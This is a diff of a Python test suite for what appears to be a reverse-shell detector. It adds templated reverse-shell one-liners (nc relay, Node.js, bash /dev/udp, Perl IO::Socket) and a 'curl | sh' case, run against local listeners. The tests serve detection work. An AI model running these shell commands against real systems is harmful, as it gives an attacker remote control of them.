@@ -30,6 +30,10 @@ from conftest import Tracer, in_container
 
 PY = "/usr/bin/python3"
 
+RELAY = ("relay: no socket reaches the shell's stdio (pipes or a FIFO), another process holds "
+         "it; exec events carry the pipe/FIFO inodes (process.stdio) but the kernel does not yet "
+         "track which processes hold each end (issue 15, relay detection)")
+
 # name -> (command with {h} host and {p} port, xfail reason or None)
 ATTACKS = {
     "bash -i >& /dev/tcp": ("bash -c 'bash -i >& /dev/tcp/{h}/{p} 0>&1'", None),
@@ -72,6 +76,20 @@ ATTACKS = {
         "the types of fd 0-2 plus pipe/FIFO peer tracking (a tcp_connect from a process whose "
         "stdout is a FIFO read by a shell), or FileType on dup2's fd to see a shell put a FIFO "
         "on stdio; the fifo preset reports the mkfifo"),
+    "nc | sh | nc relay (two pipes)": (
+        "nc.traditional -q 1 {h} {p} </dev/null | sh 2>&1 | nc.traditional -q 1 {h} {p} >/dev/null",
+        RELAY),
+    "node spawn(sh) piped to net.Socket": (
+        "node -e 'const s=require(\"net\").connect({p},\"{h}\"),c=require(\"child_process\")"
+        ".spawn(\"/bin/sh\");s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s);c.on(\"exit\","
+        "()=>s.destroy())'", RELAY),
+    "bash -i >& /dev/udp (UDP)": ("bash -c 'bash -i >& /dev/udp/{h}/{p} 0>&1'", None),
+    "perl IO::Socket, system $_ while <>": (
+        "perl -MIO::Socket -e '$c=new IO::Socket::INET(PeerAddr,\"{h}:{p}\");"
+        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+        "fdopen aliases perl's STDIN/STDOUT handles to the socket's own fd (no dup onto 0-2), "
+        "so no process ever has the socket on fd 0-2: needs tracking of an interpreter that "
+        "reads commands from a connected socket it holds on a high fd"),
 }
 
 BENIGN = {
@@ -83,20 +101,19 @@ BENIGN = {
     "python socket reader into a file": (
         PY + " -c 'import socket; s=socket.create_connection((\"{h}\",{p})); "
         "s.sendall(b\"x\"); d=s.recv(99); open(\"/dev/null\",\"wb\").write(d)'", None),
-    "bash /dev/tcp read into cat (cat </dev/tcp)": (
-        "bash -c 'cat < /dev/tcp/{h}/{p} > /dev/null'",
-        "known false positive: bash dup2()s the connected socket onto cat's stdin before "
-        "exec: the same technique as a reverse shell; telling them apart needs the "
-        "exec that follows the dup2 (exec events carrying fd 0-2 types)"),
+    "bash /dev/tcp read into cat (cat </dev/tcp)": ("bash -c 'cat < /dev/tcp/{h}/{p} > /dev/null'", None),
     "inetd-style server: accepted socket on cat's stdio": (
         PY + " -c 'import socket,os; s=socket.socket(); s.connect((\"{h}\",{p})); "
         "pid=os.fork()\nif pid==0:\n [os.dup2(s.fileno(),f) for f in (0,1)]; os.execv(\"/usr/bin/cat\",[\"cat\"])\n"
-        "os.waitpid(pid,0)'",
-        "known false positive (documented in the preset): inetd/systemd Accept=yes services "
-        "put a socket on a non-shell program's stdio by design"),
+        "os.waitpid(pid,0)'", None),
+    "curl download piped into sh (curl | sh)": ("curl -s -m 5 http://{h}:{p}/x.sh | sh", None),
+    "client piping received bytes into tr": (
+        "nc.traditional -q 1 {h} {p} </dev/null | tr a-z A-Z >/dev/null", None),
 }
 
-HTTP_CASES = {"curl download (http.server)", "wget download (http.server)"}
+HTTP_CASES = {"curl download (http.server)", "wget download (http.server)",
+              "curl download piped into sh (curl | sh)"}
+UDP_CASES = {"bash -i >& /dev/udp (UDP)"}
 # benign clients that send: the listener must have received their bytes
 SENDERS = {"pipeline into nc (echo | nc)", "nc sending a file (nc < file)",
            "python socket reader into a file", "inetd-style server: accepted socket on cat's stdio"}
@@ -133,6 +150,27 @@ except OSError:
 rec.write(f"received {n}\n")
 '''
 
+# The same contract for UDP: the first datagram is the "connection".
+UDP_LISTENER = r'''
+import os, socket, sys, time
+rec = open(os.path.join(sys.argv[3], "record"), "a", buffering=1)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind((sys.argv[1], int(sys.argv[2]))); s.settimeout(12)
+open(os.path.join(sys.argv[3], "ready"), "w").close()
+n = 0
+try:
+    d, peer = s.recvfrom(4096)
+    rec.write("accepted\n")
+    n += len(d)
+    s.sendto(b"id\nexit\n", peer)
+    s.settimeout(1)
+    while True:
+        n += len(s.recv(4096))
+except OSError:
+    pass
+rec.write(f"received {n}\n")
+'''
+
 # The same contract for HTTP, with http.server answering one request and
 # logging it ('"GET / HTTP/1.1" 200') to the record.
 HTTP_LISTENER = r'''
@@ -140,7 +178,7 @@ import http.server, os, sys
 d = sys.argv[3]
 class H(http.server.SimpleHTTPRequestHandler):
     def __init__(self, *a, **k):
-        super().__init__(*a, directory="/etc", **k)
+        super().__init__(*a, directory=d, **k)
     def log_message(self, fmt, *args):
         with open(os.path.join(d, "record"), "a") as f:
             f.write("accepted\nhttp " + (fmt % args) + "\n")
@@ -174,7 +212,7 @@ def cases():
 
 
 def server_cmd(name, h, p, d):
-    code = HTTP_LISTENER if name in HTTP_CASES else LISTENER
+    code = HTTP_LISTENER if name in HTTP_CASES else UDP_LISTENER if name in UDP_CASES else LISTENER
     return f"{PY} -c {shlex.quote(code)} {h} {p} {d} >/dev/null 2>&1"
 
 
@@ -185,6 +223,8 @@ def run_case(kind, name, where, cmd, h="127.0.0.1", h6="::1"):
     never finished)."""
     p = port()
     d = tempfile.mkdtemp(dir=WORK)
+    with open(os.path.join(d, "x.sh"), "w") as f:  # what curl | sh runs
+        f.write("echo hello >/dev/null\n")
     host = h6 if "IPv6" in name else h
     client = cmd.format(h=h, h6=h6, p=p)
     srv = server_cmd(name, host, p, d)
@@ -221,7 +261,7 @@ def proof(kind, name, how):
         return
     if how["rc"] != 0:
         raise CaseDidNotRun(f"{name}: the benign client exited {how['rc']}")
-    if name in HTTP_CASES and '"GET / HTTP/1.1" 200' not in how["record"]:
+    if name in HTTP_CASES and not ('"GET /' in how["record"] and '" 200' in how["record"]):
         raise CaseDidNotRun(f"{name}: no GET answered: {how['record']!r}")
     if name in SENDERS and "received 0" in how["record"]:
         raise CaseDidNotRun(f"{name}: the listener received nothing: {how['record']!r}")
